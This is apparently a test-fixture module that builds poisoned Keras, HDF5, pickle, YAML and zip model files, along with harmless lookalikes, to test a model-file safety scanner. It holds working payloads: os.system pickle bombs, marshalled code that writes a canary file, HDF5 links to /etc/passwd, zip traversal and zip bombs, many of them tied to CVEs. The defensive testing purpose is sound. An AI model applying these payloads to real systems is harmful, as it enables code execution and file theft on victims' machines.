"""Model files made to hurt, and harmless ones that look like them, all built here.

Code in them would change the canary, a file with the word ``alive`` in it; nothing may.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import stat
import struct
import warnings
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING

import h5py
import numpy as np

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

ALIVE = "alive"


@dataclass(frozen=True)
class Case:
    """A file and how it must end."""

    build: Callable[[Path], Path]
    code: int
    words: str
    """A part of the sentence it is refused with."""


CASES: dict[str, Case] = {}
HARMLESS: dict[str, Callable[[Path], Path]] = {}


def hostile(code, words):
    """Register a builder under its name; ``code`` is the exit code."""

    def register(build):
        CASES[build.__name__] = Case(build, code, words)
        return build

    return register


def harmless(build):
    HARMLESS[build.__name__] = build
    return build


# --- parts of configs ---------------------------------------------------------------------------------------------


def layer(kind, name="", module="keras.layers", **config):
    own = None if module.startswith("keras.layers") else kind
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": name or kind.lower(), **config},
        "registered_name": own,
    }


def legacy(kind, name="", **config):
    return {"class_name": kind, "config": {"name": name or kind.lower(), **config}}


def pixels(shape=(8, 8, 3)):
    return layer("InputLayer", "pixels", batch_shape=[None, *shape], dtype="float32")


def conv(**config):
    return layer("Conv2D", "conv", filters=2, kernel_size=[3, 3], **config)


def sequential(*layers, name="net"):
    return layer("Sequential", name, module="keras", layers=[pixels(), *layers])


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def tensor(name, shape=(None, 8, 8, 3)):
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": list(shape), "dtype": "float32", "keras_history": [name, 0, 0]},
    }


def functional(*called, outputs=None):
    """A graph of `called` layers, one behind the other, each given as an entry with or without ``inbound_nodes``."""
    layers, before = [pixels() | {"name": "pixels", "inbound_nodes": []}], "pixels"
    for entry in called:
        name = entry["config"]["name"]
        layers.append({"inbound_nodes": [{"args": [tensor(before)], "kwargs": {}}], **entry, "name": name})
        before = name
    ends = [outputs or before, 0, 0]
    config = {"name": "graph", "layers": layers, "input_layers": ["pixels", 0, 0], "output_layers": ends}
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": config,
        "registered_name": "Functional",
    }


def operation(kind, module="keras.src.ops.numpy", args=(), kwargs=None, **config):
    entry = layer(kind, kind.lower(), module=module, **config)
    return entry | {"inbound_nodes": [{"args": [tensor("pixels"), *args], "kwargs": kwargs or {}}]}


def bytecode(folder):
    """A function, as Keras stores it, that kills the canary."""
    path = str(folder / "canary")
    made = eval(f"lambda x: (__import__('pathlib').Path({path!r}).write_text('dead'), x)[1]")  # noqa: S307 (this is the poison)
    return base64.b64encode(marshal.dumps(made.__code__)).decode()


def lambda_function(folder):
    return {"class_name": "__lambda__", "config": {"code": bytecode(folder), "defaults": None, "closure": None}}


def lambda_layer(folder, name="evil"):
    return layer("Lambda", name, function=lambda_function(folder), arguments={})


class Bomb:
    """Kills the canary when it is unpickled."""

    def __init__(self, folder):
        self.path = str(folder / "canary")

    def __reduce__(self):
        return os.system, (f"echo dead > '{self.path}'",)


# --- files --------------------------------------------------------------------------------------------------------


def weights():
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        file["layers/conv2d/vars/0"] = np.random.default_rng(0).random((3, 3, 3, 2), np.float32)
        file["layers/conv2d/vars/1"] = np.zeros(2, np.float32)
    return memory.getvalue()


def keras_file(folder, config, *, inner=None, name="model.keras", compression=zipfile.ZIP_STORED):
    path = folder / name
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", config if isinstance(config, str) else json.dumps(config))
        archive.writestr("model.weights.h5", weights() if inner is None else inner)
    return path


def h5_file(folder, config, *, name="model.h5", change=None, **options):
    path = folder / name
    with h5py.File(path, "w", **options) as file:
        file.attrs["model_config"] = json.dumps(config)
        group = file.create_group("model_weights")
        group["conv/conv/kernel:0"] = np.zeros((3, 3, 3, 2), np.float32)
        group["conv/conv/bias:0"] = np.zeros(2, np.float32)
        if change:
            change(group)
    return path


def inner_weights(folder, change):
    """The bytes of a weights file with something wicked in it."""
    path = folder / "inner.h5"
    with h5py.File(path, "w") as file:
        change(file.create_group("layers/conv2d/vars"))
    data = path.read_bytes()
    path.unlink()
    return data


GOOD = sequential(conv())
OLD = {
    "class_name": "Sequential",
    "config": {"name": "net", "layers": [legacy("Conv2D", "conv", filters=2, kernel_size=[3, 3])]},
}


# --- code in the config -------------------------------------------------------------------------------------------


@hostile(4, "layer 'evil' (Lambda) runs Python code")
def lambda_in_keras_file(folder):
    return keras_file(folder, sequential(lambda_layer(folder)))


@hostile(4, "layer 'evil' (Lambda) runs Python code")
def lambda_in_h5_file_cve_2025_9905(folder):
    old = legacy("Lambda", "evil", function=[bytecode(folder), None, None], function_type="lambda")
    return h5_file(folder, {"class_name": "Sequential", "config": {"name": "net", "layers": [old]}})


@hostile(4, "layer 'evil' (Lambda) runs Python code")
def lambda_in_a_list_of_layers_cve_2024_3660(folder):
    return h5_file(
        folder, {"class_name": "Sequential", "config": [legacy("Lambda", "evil", function=[bytecode(folder)])]}
    )


@hostile(4, "layer 'a' (Lambda), 'b' (Lambda) runs Python code")
def lambdas_in_models_within_models(folder):
    inner = sequential(lambda_layer(folder, "a"), name="inner")
    return keras_file(folder, sequential(sequential(inner, name="middle"), lambda_layer(folder, "b")))


@hostile(4, "layer 'evil' (Lambda)")
def lambda_in_a_wrapper(folder):
    return keras_file(folder, sequential(layer("TimeDistributed", layer=lambda_layer(folder))))


@hostile(4, "layer 'evil' (Lambda)")
def lambda_in_the_second_half_of_a_wrapper(folder):
    return keras_file(
        folder, sequential(layer("Bidirectional", layer=layer("LSTM"), backward_layer=lambda_layer(folder)))
    )


@hostile(4, "layer 'evil' (Lambda)")
def lambda_in_a_tuple(folder):
    hidden = {"class_name": "__tuple__", "items": [lambda_layer(folder)]}
    return h5_file(folder, sequential(layer("Pipeline", layers=hidden)))


@hostile(4, "layer 'evil' (Lambda)")
def lambda_in_json_beside_weights(folder):
    with h5py.File(folder / "model.h5", "w") as file:
        file.attrs["layer_names"] = [b"conv"]
        file["conv/kernel"] = np.zeros(3)
    path = folder / "model.json"
    path.write_text(json.dumps(sequential(lambda_layer(folder))))
    return path


@hostile(4, "layer 'evil' (Lambda)")
def lambda_behind_a_key_written_twice(folder):
    good, bad = json.dumps([pixels()]), json.dumps([lambda_layer(folder)])
    text = f'{{"module": "keras", "class_name": "Sequential", "config": {{"layers": {good}, "layers": {bad}}}}}'
    return keras_file(folder, text)


@hostile(4, "layer 'evil' (Lambda)")
def lambda_in_an_hdf5_file_behind_a_harmless_zip(folder):
    path = h5_file(folder, sequential(lambda_layer(folder)), name="model.keras", userblock_size=512)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", json.dumps(GOOD))
        archive.writestr("model.weights.h5", weights())
    return path


@hostile(4, "layer 'conv' (lambda function) runs Python code")
def lambda_as_activation(folder):
    return keras_file(folder, sequential(conv(activation=lambda_function(folder))))


@hostile(4, "layer 'conv' (lambda function) runs Python code")
def lambda_as_initializer(folder):
    return keras_file(folder, sequential(conv(kernel_initializer=lambda_function(folder))))


@hostile(4, "layer 'add' (lambda function) runs Python code")
def lambda_in_the_arguments_of_an_operation(folder):
    return keras_file(folder, functional(operation("Add", kwargs={"x2": lambda_function(folder)})))


@hostile(4, "layer 'evil' (TFSMLayer) runs a TensorFlow graph")
def saved_model_layer_cve_2026_1462(folder):
    return keras_file(folder, sequential(layer("TFSMLayer", "evil", filepath=str(folder), call_endpoint="serve")))


@hostile(4, "layer 'evil' (TorchModuleWrapper) unpickles")
def torch_layer_cve_2025_49655(folder):
    poison = base64.b64encode(pickle.dumps(Bomb(folder))).decode()
    return keras_file(
        folder, sequential(layer("TorchModuleWrapper", "evil", module=poison) | {"module": "keras.layers"})
    )


@hostile(4, "layer 'a' (JaxLayer) runs a function")
def jax_and_flax_layers(folder):
    call = function("os", "system")
    return keras_file(folder, sequential(layer("JaxLayer", "a", call_fn=call), layer("FlaxLayer", "b", module="x")))


@hostile(4, "layer 'conv' (function) calls the function os.system")
def system_as_activation_cve_2025_1550(folder):
    return keras_file(folder, sequential(conv(activation=function("os", "system"))))


@hostile(4, "layer 'conv' (function) calls the function builtins.exec")
def exec_as_activation(folder):
    return keras_file(folder, sequential(conv(activation=function("builtins", "exec"))))


@hostile(4, "names Popen of the Python module subprocess")
def process_as_layer_cve_2025_1550(folder):
    evil = layer("Popen", "evil", module="subprocess", args=["touch", str(folder / "canary")])
    return keras_file(folder, sequential(evil))


@hostile(4, "keras.config.enable_unsafe_deserialization")
def safe_mode_switched_off_cve_2025_9906(folder):
    return keras_file(
        folder, sequential(layer("Activation", activation=function("keras.config", "enable_unsafe_deserialization")))
    )


@hostile(4, "keras.utils.get_file")
def download_as_layer_cve_2025_8747(folder):
    evil = {"module": "keras.utils", "class_name": "get_file", "registered_name": None}
    return keras_file(
        folder, sequential(evil | {"config": {"name": "evil", "origin": "http://localhost/x.tar", "extract": True}})
    )


@hostile(4, "keras.utils.get_file")
def download_as_activation_cve_2025_12638(folder):
    return keras_file(folder, sequential(conv(activation=function("keras.utils", "get_file"))))


@hostile(4, "keras.src.utils.python_utils.func_load")
def bytecode_loader_of_keras(folder):
    return keras_file(folder, sequential(conv(activation=function("keras.src.utils.python_utils", "func_load"))))


@hostile(4, "keras.src.saving.saving_lib_test.Evil, which is no layer")
def module_of_keras_that_runs_when_imported(folder):
    return keras_file(folder, sequential(layer("Evil", "evil", module="keras.src.saving.saving_lib_test")))


@hostile(4, "layer 'map' (Map) calls a function it is given")
def operation_that_takes_a_function(folder):
    return keras_file(
        folder, functional(operation("Map", module="keras.src.ops.core", function=function("os", "system")))
    )


@hostile(4, "which is not among the operations known to only compute")
def operation_that_keras_does_not_have(folder):
    return keras_file(folder, functional(operation("WriteFile", module="keras.src.ops.io")))


@hostile(4, "io.write_file, which is not among the operations")
def tensorflow_function_that_writes(folder):
    writes = legacy("TFOpLambda", "evil", function="io.write_file")
    writes |= {"name": "evil", "inbound_nodes": [["_CONSTANT_VALUE", -1, str(folder / "canary"), {"contents": "dead"}]]}
    return h5_file(folder, {"class_name": "Functional", "config": {"name": "net", "layers": [writes]}})


@hostile(4, "WriteFile, which is not among the operations")
def tensorflow_operation_that_writes(folder):
    node = json.dumps({"name": "w", "op": "WriteFile", "input": []})
    evil = legacy("TensorFlowOpLayer", "evil", node_def=node, constants={"0": str(folder / "canary")})
    return h5_file(folder, {"class_name": "Functional", "config": {"name": "net", "layers": [evil]}})


@hostile(4, "rebuilds a TensorFlow type by name")
def type_of_tensorflow_by_name(folder):
    evil = {"class_name": "TypeSpec", "type_spec": "tf.RaggedTensorSpec", "serialized": []}
    return h5_file(folder, {"class_name": "Sequential", "config": {"layers": [legacy("Dense", "d", units=evil)]}})


@hostile(3, "needs classes that Keras doesn't have: Attention2D, Evil")
def classes_of_other_packages(folder):
    wrapped = layer("TimeDistributed", layer=layer("Evil", module="mine"))
    return keras_file(folder, sequential(layer("Attention2D", module="mine.layers"), wrapped))


@hostile(4, "layer 'evil' (lambda function) runs Python code")
def lambda_with_a_space(folder):
    return keras_file(folder, sequential(layer("Lambda ", "evil", function=lambda_function(folder)) | {"module": None}))


# --- files that a model would read --------------------------------------------------------------------------------


@hostile(4, "layer 'words' (StringLookup) reads '/etc/passwd'")
def vocabulary_from_a_path_cve_2025_12058(folder):
    return keras_file(folder, sequential(layer("StringLookup", "words", vocabulary="/etc/passwd")))


@hostile(4, "(TextVectorization) reads 'gs://bucket/words.txt'")
def vocabulary_from_the_network_cve_2025_12058(folder):
    return keras_file(folder, sequential(layer("TextVectorization", "words", vocabulary="gs://bucket/words.txt")))


@hostile(4, "(IntegerLookup) reads '../secret'")
def vocabulary_of_an_old_file(folder):
    old = legacy("IntegerLookup", "words", vocabulary="../secret")
    return h5_file(folder, {"class_name": "Sequential", "config": {"layers": [old]}})


@hostile(4, "is a link to another file")
def external_link_in_h5(folder):
    return h5_file(folder, OLD, change=lambda group: group.__setitem__("evil", h5py.ExternalLink("/etc/hostname", "/")))


@hostile(4, "is a link to another file")
def external_link_in_keras_weights(folder):
    inner = inner_weights(folder, lambda group: group.__setitem__("0", h5py.ExternalLink("secret.h5", "/x")))
    return keras_file(folder, GOOD, inner=inner)


@hostile(4, "is a link to another place")
def soft_link(folder):
    return h5_file(folder, OLD, change=lambda group: group.__setitem__("evil", h5py.SoftLink("/elsewhere")))


def external_storage(group):
    group.create_dataset("0", (64,), np.uint8, external=[("/etc/passwd", 0, 64)])


@hostile(4, "is stored in another file")
def array_in_another_file_cve_2026_1669(folder):
    return keras_file(folder, GOOD, inner=inner_weights(folder, external_storage))


@hostile(4, "is stored in another file")
def array_in_another_file_of_compressed_weights(folder):
    inner = inner_weights(folder, external_storage)
    return keras_file(folder, GOOD, inner=inner, compression=zipfile.ZIP_DEFLATED)


@hostile(4, "is put together from other files")
def virtual_array(folder):
    def change(group):
        layout = h5py.VirtualLayout((4,), np.float32)
        layout[:] = h5py.VirtualSource("secret.h5", "x", (4,))
        group.create_virtual_dataset("evil", layout)

    return h5_file(folder, OLD, change=change)


# --- memory and disk ----------------------------------------------------------------------------------------------


@hostile(4, "its arrays take 4000000.0 GB; the limit is 8 GB")
def array_of_absurd_shape_cve_2026_0897(folder):
    def change(group):
        group.create_dataset("0", (10**6, 10**9), np.float32, chunks=(64, 64), compression="gzip")

    return keras_file(folder, GOOD, inner=inner_weights(folder, change))


@hostile(4, "the output of layer 'dense' (Dense) takes")
def layer_with_absurdly_many_units(folder):
    return keras_file(folder, sequential(layer("Flatten"), layer("Dense", "dense", units=10**10)))


@hostile(4, "most of them in layer 'dense', take")
def layers_that_are_absurd_together(folder):
    big = layer("UpSampling2D", "up", size=[100, 100])
    return keras_file(folder, functional(big, layer("Flatten", "flat"), layer("Dense", "dense", units=50_000)))


@hostile(4, "the output of layer 'up' (UpSampling2D) takes")
def map_of_absurd_size(folder):
    return keras_file(folder, sequential(layer("UpSampling2D", "up", size=[10**6, 10**6])))


@hostile(4, "the output of layer 'pad' (ZeroPadding2D) takes")
def padding_of_absurd_size(folder):
    return h5_file(folder, sequential(layer("ZeroPadding2D", "pad", padding=10**9)))


@hostile(4, "the input 'pixels' takes")
def input_of_absurd_size(folder):
    config = sequential(layer("GlobalAveragePooling2D"))
    config["config"]["layers"][0] = pixels((10**6, 10**6, 3))
    return keras_file(folder, config)


@hostile(4, "a constant in it is of the type 'U2000000000'")
def constant_of_a_type_that_takes_all_memory(folder):
    constant = {"class_name": "__numpy__", "config": {"value": ["a"], "dtype": "U2000000000"}}
    return keras_file(folder, functional(operation("Add", kwargs={"x2": constant})))


@hostile(4, "operation 'tile' (Tile) may make")
def operation_with_absurd_arguments(folder):
    return keras_file(folder, functional(operation("Tile", repeats=[1, 10**6, 10**6, 1])))


@hostile(4, "runs more than 10000 layers")
def models_that_call_each_other_twice(folder):
    model = layer("Activation", "a0", activation="relu")
    for depth in range(1, 30):
        name = f"m{depth}"
        called = model | {"name": "inner", "inbound_nodes": [[["pixels", 0, 0, {}]], [["inner", 0, 0, {}]]]}
        called["config"] = called["config"] | {"name": "inner"}
        start = pixels() | {"name": "pixels", "inbound_nodes": []}
        config = {
            "name": name,
            "layers": [start, called],
            "input_layers": [["pixels", 0, 0]],
            "output_layers": [["inner", 1, 0]],
        }
        model = {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}
    return keras_file(folder, model)


@hostile(4, "has a config of 70 MB")
def huge_config_that_compresses_well(folder):
    return keras_file(folder, " " * (70 * 2**20), compression=zipfile.ZIP_DEFLATED)


@hostile(4, "expands more than 100 times")
def zip_that_fills_the_disk(folder):
    path = keras_file(folder, GOOD)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("assets/zeros.txt", bytes(20 * 2**20))
    return path


@hostile(4, "has an attribute of / of 66 MB")
def huge_attribute(folder):
    path = folder / "model.h5"
    with h5py.File(path, "w", libver="latest") as file:
        file.attrs["model_config"] = json.dumps(OLD)
        file.attrs["evil"] = np.zeros(66 * 2**20, np.uint8)
        file.create_group("model_weights")
    return path


@hostile(3, "has an unreadable config")
def config_of_absurd_depth(folder):
    start = '{"module": "keras", "class_name": "Sequential", "config": {"layers": ['
    return keras_file(folder, start * 20_000 + "]}}" * 20_000)


@hostile(4, "most of them in layer 'embedding' (Embedding), take")
def layer_that_is_absurd_alone_in_a_graph_that_is_none(folder):
    huge = layer("Embedding", "embedding", input_dim=10**6, output_dim=10**6)
    model = functional(huge)
    model["config"]["output_layers"] = ["nowhere", 7, 7]
    return keras_file(folder, model)


# --- zips ---------------------------------------------------------------------------------------------------------


def with_entry(folder, name, data=b"dead", mode=0o100644):
    path = keras_file(folder, GOOD)
    entry = zipfile.ZipInfo(name)
    entry.external_attr = mode << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(entry, data)
    return path


@hostile(4, "leads out of the file's own folder")
def zip_entry_above_the_folder_cve_2025_12060(folder):
    return with_entry(folder, "assets/../../canary")


@hostile(4, "leads out of the file's own folder")
def zip_entry_with_an_absolute_path(folder):
    return with_entry(folder, str(folder / "canary"))


@hostile(4, "leads out of the file's own folder")
def zip_entry_with_a_drive(folder):
    return with_entry(folder, "C:\\canary")


@hostile(4, "is a link or device")
def zip_entry_that_is_a_link(folder):
    return with_entry(folder, "assets/link", str(folder / "canary").encode(), stat.S_IFLNK | 0o777)


@hostile(4, "its entry 'config.json' is in it twice")
def zip_with_two_configs(folder):
    path = keras_file(folder, GOOD)
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the second entry
        archive.writestr("config.json", json.dumps(sequential(lambda_layer(folder))))
    return path


@hostile(4, "its entry 'assets/more.bin' is an archive")
def zip_within_the_zip(folder):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        archive.writestr("../canary", "dead")
    return with_entry(folder, "assets/more.bin", memory.getvalue())


@hostile(4, "its entries overlap")
def zip_with_entries_over_each_other(folder):
    path = keras_file(folder, GOOD)
    data = bytearray(path.read_bytes())
    # The entry for metadata.json is made to claim the bytes of all that follow.
    at = data.index(b"PK\x01\x02")
    struct.pack_into("<II", data, at + 20, len(data), len(data))
    path.write_bytes(data)
    return path


# --- what is no Keras model ---------------------------------------------------------------------------------------


@hostile(3, "is a pickle, which runs code")
def pickle_named_keras(folder):
    path = folder / "model.keras"
    path.write_bytes(pickle.dumps(Bomb(folder)))
    return path


@hostile(3, "is a PyTorch model")
def torch_file(folder):
    path = folder / "model.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Bomb(folder)))
    return path


@hostile(3, "is a SavedModel")
def saved_model(folder):
    path = folder / "saved"
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(b"\x08\x01")
    return path


@hostile(3, "is an architecture in YAML, which could run code")
def yaml_cve_2021_37678(folder):
    path = folder / "model.yaml"
    path.write_text(
        f"backend: tensorflow\nclass_name: !!python/object/apply:os.system ['echo dead > {folder}/canary']\n"
    )
    return path


# --- harmless lookalikes ------------------------------------------------------------------------------------------


@harmless
def layers_named_like_dangerous_ones(folder):
    return keras_file(
        folder, sequential(conv(), layer("Activation", "Lambda", activation="relu"), layer("Flatten", "TFSMLayer"))
    )


@harmless
def words_about_lambdas(folder):
    return keras_file(
        folder, sequential(layer("StringLookup", "words", vocabulary=["Lambda", "__lambda__", "/etc/passwd"]))
    )


@harmless
def activations_as_functions_of_keras(folder):
    return keras_file(
        folder,
        sequential(
            conv(activation=function("builtins", "relu")),
            layer("Activation", activation=function("keras.activations", "gelu")),
        ),
    )


@harmless
def activation_that_is_a_layer(folder):
    return keras_file(folder, sequential(conv(activation=layer("LeakyReLU", negative_slope=0.1))))


@harmless
def preprocessing_as_operations(folder):
    return keras_file(folder, functional(operation("TrueDivide", args=[255.0]), conv()))


@harmless
def loss_of_the_user_in_a_nested_model(folder):
    inner = sequential(conv(), name="inner") | {"compile_config": {"loss": lambda_function(folder)}}
    return keras_file(folder, sequential(inner))


@harmless
def compressed_weights_and_assets(folder):
    path = keras_file(folder, GOOD, compression=zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/words/vocabulary.txt", "PK and other words")
    return path


@harmless
def big_archive_that_is_fine(folder):
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        file["layers/conv2d/vars/0"] = np.zeros((3, 3, 3, 2), np.float32)
        file["layers/dense/vars/0"] = np.random.default_rng(0).random((2000, 2000), np.float32)
    return keras_file(folder, GOOD, inner=memory.getvalue(), compression=zipfile.ZIP_DEFLATED)


@harmless
def hdf5_behind_a_user_block(folder):
    return h5_file(folder, OLD, name="weights.model", userblock_size=2048)


@harmless
def hdf5_with_a_group_in_itself(folder):
    return h5_file(folder, OLD, change=lambda group: group.__setitem__("again", group))


@harmless
def values_that_json_lacks(folder):
    steps = {"class_name": "__tuple__", "items": [1, 1]}
    scale = {"class_name": "__numpy__", "config": {"value": [1.0], "dtype": "float32"}}
    return keras_file(folder, sequential(conv(strides=steps), layer("Rescaling", "scale", scale=scale)))
